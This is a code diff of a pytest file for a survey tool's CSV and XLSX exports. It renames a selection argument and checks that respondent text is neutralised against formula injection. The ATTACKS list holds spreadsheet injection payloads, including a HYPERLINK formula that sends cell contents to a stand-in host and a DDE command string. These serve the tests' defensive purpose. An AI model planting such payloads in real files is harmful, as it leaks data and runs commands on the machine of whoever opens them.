@@ -10,13 +10,13 @@ import zipfile
 import openpyxl
 import pytest
 
-from analysis import banner_book
-from analysis.exports import Selection, export_rows
+from analysis import Filter, banner_book
+from analysis.exports import export_rows
 from analysis.exports.cells import neutralise
 from analysis.exports.workbook import tables_csv, write_book_xlsx
 from survey.services.tabulation import source_for
 from survey.extensions import db
-from tests.exports.data import make_rich_campaign, rich_definition, store
+from tests.analysis.exports.data import make_rich_campaign, rich_definition, store
 from tests.helpers import make_campaign
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "=cmd|' /C calc'!A0",
@@ -41,7 +41,7 @@ def test_row_level_csv_neutralises_respondent_text(app, tmp_path):
             store(campaign, {"level": 1, "q1": 1, "m": [9], "m.other": text, "y": text})
         db.session.commit()
         out = tmp_path / "rows.csv"
-        export_rows(db.engine, rich_definition(), Selection(campaign_id=campaign.id), "csv",
+        export_rows(db.engine, rich_definition(), Filter(campaign_ids=(campaign.id,)), "csv",
                     out, include_text=True)
     rows = _csv_rows(out.read_bytes())
     header = rows[0]
@@ -81,7 +81,7 @@ def test_codebook_and_banner_book_xlsx_write_labels_as_strings(app, tmp_path):
         db.session.commit()
         codebook = tmp_path / "codebook.xlsx"
         export_rows(db.engine, campaign.version.definition,
-                    Selection(campaign_id=campaign.id), "codebook", codebook)
+                    Filter(campaign_ids=(campaign.id,)), "codebook", codebook)
         book = banner_book(source_for(db.engine, campaign), ["level"], items=["q1"], k=5)
         book_path = tmp_path / "book.xlsx"
         write_book_xlsx(list(book.tables), book_path, title="=1+2")
